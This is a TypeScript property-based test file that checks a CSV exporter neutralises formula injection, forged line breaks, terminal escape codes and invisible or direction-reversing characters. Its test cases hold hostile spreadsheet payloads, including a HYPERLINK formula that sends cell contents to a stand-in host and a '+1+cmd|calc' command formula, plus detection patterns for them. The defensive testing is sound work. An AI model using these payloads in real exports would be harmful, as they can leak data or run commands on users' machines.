/** Promise 13: logs and exports can't be injected into (ASVS 5.0 16.4.1). */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { SEED } from '../testing/random.ts';
import { csv } from './csv.ts';

/** RFC 4180, by another hand than the one that writes it. */
function read(text: string): string[][] {
  return text
    .split('\r\n')
    .slice(0, -1)
    .map((line) => [...line.matchAll(/(?:^|,)"((?:[^"]|"")*)"/g)].map(([, field = '']) => field.replaceAll('""', '"')));
}

const STARTS_A_FORMULA = /^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: controls are what it looks for
const SHAPELESS = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]/u;

/** Letters that do harm, among those that don't. */
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...'=+-@\t\r\n",;|!\'＝＋－＠', '\u001b', '[31m', '\u202e', '\u2066', '\u200b', '\u009b', '\u0000'),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
    fc.constantFrom('\ud800', '\udfff', '\u2028', '\u2029', '\u00ad', '\ufeff'),
  ),
  maxLength: 30,
});

describe('promise 13: exports can’t be injected into', () => {
  test.each([
    ['a formula', '=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
    ['a sum', '+1+cmd|calc', `'+1+cmd|calc`],
    ['a difference', '-2+3', `'-2+3`],
    ['a function of old', '@SUM(A1)', `'@SUM(A1)`],
    ['a formula of full width', '＝1+1', `'＝1+1`],
    ['a formula behind a tab', '\t=1+1', `'=1+1`],
    ['a line break', '本人\r\n"9","伪造"', '本人 ⏎ "9","伪造"'],
    ['a terminal’s colours', '\u001b[31m红', '<U+001B>[31m红'],
    ['a mark that turns the direction', '备注\u202exlsx', '备注<U+202E>xlsx'],
    ['what is not seen', '王\u200b明', '王<U+200B>明'],
    ['nothing', '', ''],
    ['what people write', '本人到窗口，人证一致。“已提醒”', '本人到窗口，人证一致。“已提醒”'],
  ])('%s', (_what, written, shown) => {
    expect(read(csv([[written, 'x']]))).toEqual([[shown, 'x']]);
  });

  test('no text becomes a formula, a further line or field, or anything that cannot be seen', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 5 }), (records) => {
        const text = csv(records);
        expect(text.split('\n')).toHaveLength(records.length + 1);
        const found = read(text);
        expect(found.map((fields) => fields.length)).toEqual(records.map(() => 2));
        for (const field of found.flat()) {
          expect(field).not.toMatch(STARTS_A_FORMULA);
          expect(field).not.toMatch(SHAPELESS);
        }
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });

  test('two texts that differ by more than spaces and line breaks stay two', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'grapheme' }), (one, other) => {
        fc.pre(!/[\s⏎<>']/.test(one + other) && one !== other);
        expect(csv([[one]])).not.toBe(csv([[other]]));
      }),
      { seed: SEED },
    );
  });
});
